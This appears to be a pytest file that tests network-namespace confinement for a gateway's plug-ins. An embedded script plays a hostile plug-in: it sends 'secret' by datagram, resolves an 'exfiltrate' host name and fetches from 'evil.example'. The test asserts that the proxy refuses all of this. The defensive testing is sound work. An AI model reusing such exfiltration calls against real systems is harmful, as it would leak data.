"""The kernel's half of the border: a plug-in in a network namespace reaches the allow-list and nothing else.

A recording proxy shows what it tried. Where the host lets no process make a namespace these tests
skip, with the reason, unless BORDERPOST_REQUIRE_NETNS=1 insists.
"""

from __future__ import annotations

import asyncio
import shutil
import subprocess
import sys
from pathlib import Path

import orjson
import pytest

from gateway.adapters.children import probe, start_routed
from gateway.adapters.detectors.presidio import PresidioPool
from gateway.adapters.egress_proxy import EgressProxy
from gateway.adapters.upstreams.litellm_process import Process
from gateway.core.destinations import destinations
from tests import spine
from tests.acceptance import bank
from tests.confined import needs_namespaces
from tests.fakes.vendor import FakeVendor

pytestmark = needs_namespaces

PLUG_IN = r"""
import http.client, json, os, socket, sys, urllib.request
canada, us = sys.argv[1:3]
said = {}

def note(name, act):
    try:
        said[name] = act()
    except OSError as error:
        said[name] = "refused: " + type(error).__name__ + " " + str(error)[:60]

def connect(host, port):
    with socket.create_connection((host, port), 3):
        return "CONNECTED"

def tunnel(authority):
    way = http.client.HTTPConnection("127.0.0.1", 3128, timeout=5)
    host, port = authority.split(":")
    way.set_tunnel(host, int(port))
    body = json.dumps({"model": "m", "messages": [{"role": "user", "content": "from the plug-in"}]})
    way.request("POST", "/v1/chat/completions", body, {"content-type": "application/json"})
    return way.getresponse().status

def send_datagram():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"secret", ("192.0.2.53", 53))
        return "SENT"

note("direct to the us", lambda: connect("127.0.0.1", int(us.split(":")[1])))
note("direct to canada", lambda: connect("127.0.0.1", int(canada.split(":")[1])))
note("direct to an address", lambda: connect("192.0.2.1", 443))
note("name", lambda: bool(socket.getaddrinfo("exfiltrate.secret.example", 443)))
note("datagram", send_datagram)
note("library by the proxy", lambda: urllib.request.urlopen("https://evil.example/x", timeout=5).status)
note("tunnel to the us", lambda: tunnel(us))
note("tunnel to canada", lambda: tunnel(canada))
print(json.dumps(said), flush=True)
"""


async def test_a_plug_in_reaches_the_list_and_nothing_else(tmp_path: Path) -> None:
    """Direct, by name, by datagram, by a library's proxy support, by a tunnel: only what is listed opens."""
    with FakeVendor("openai") as canada, FakeVendor("openai") as us:
        files = bank.bundle({"ca": canada})
        bank.write(tmp_path, files)
        from gateway.policy.compile import compile_bundle
        from gateway.policy.load import load_bundle

        snapshot = compile_bundle(load_bundle(tmp_path, now=spine.NOW), now=spine.NOW)
        listed = frozenset(each.authority for each in destinations(snapshot))
        proxy = EgressProxy(lambda: listed)
        here, there = (vendor.origin.split("://")[1] for vendor in (canada, us))
        process = await start_routed((sys.executable, "-c", PLUG_IN, here, there), proxy, environment={})
        try:
            async with asyncio.timeout(60):
                output, _ = await process.communicate()
        finally:
            await proxy.close()
        said = orjson.loads(output)
        assert said["tunnel to canada"] == 200
        refused = {name: outcome for name, outcome in said.items() if name != "tunnel to canada"}
        assert all(str(outcome).startswith("refused") for outcome in refused.values()), refused
        assert us.connections == 0
        assert us.raw == b""
        assert canada.connections == 1
        assert canada.seen[0].text == "from the plug-in"
        # What it tried is on record, by name, with whoever holds the proxy.
        assert list(proxy.tried) == ["evil.example:443", there]
        assert dict(proxy.refused) == {"not_listed": 2}
        assert proxy.opened == 1


def network_of(pid: int | str) -> str:
    """The network namespace of a process."""
    return str(Path(f"/proc/{pid}/ns/net").readlink())


@pytest.mark.slow
async def test_the_translator_and_the_detectors_live_in_namespaces_of_their_own() -> None:
    """The real translator, and a detector's process: another network than ours, and they work."""
    confinement = await probe()
    ours = network_of("self")
    translator = Process(confinement=confinement)
    hello = (
        "import sys, json\n"
        "data = json.dumps({'ready': True}).encode()\n"
        "sys.stdout.buffer.write(len(data).to_bytes(4, 'big') + data); sys.stdout.flush()\n"
        "sys.stdin.read()"
    )
    pool = PresidioPool(command=(sys.executable, "-c", hello), confinement=confinement)
    try:
        await pool.start()
        await translator.ask("close", stream=0)
        assert translator._process is not None
        pids = [translator._process.pid, *(child.process.pid for child in pool._all)]
        theirs = {network_of(pid) for pid in pids}
        assert len(theirs) == 2
        assert ours not in theirs
    finally:
        await pool.close()
        await translator.close()


@pytest.mark.skipif(shutil.which("ip") is None, reason="iproute2 is not installed")
def test_iproute_sees_a_loopback_and_no_other_interface() -> None:
    """Another tool's word for it: inside there is ``lo``, up, and not one route."""
    from gateway.adapters.confine import confined

    ip = shutil.which("ip")
    assert ip is not None
    links = subprocess.run(confined((ip, "-json", "link")), capture_output=True, check=True, timeout=30)
    names = [link["ifname"] for link in orjson.loads(links.stdout) if "UP" in link["flags"]]
    assert names == ["lo"]
    routes = subprocess.run(confined((ip, "-json", "route")), capture_output=True, check=True, timeout=30)
    assert orjson.loads(routes.stdout or b"[]") == []
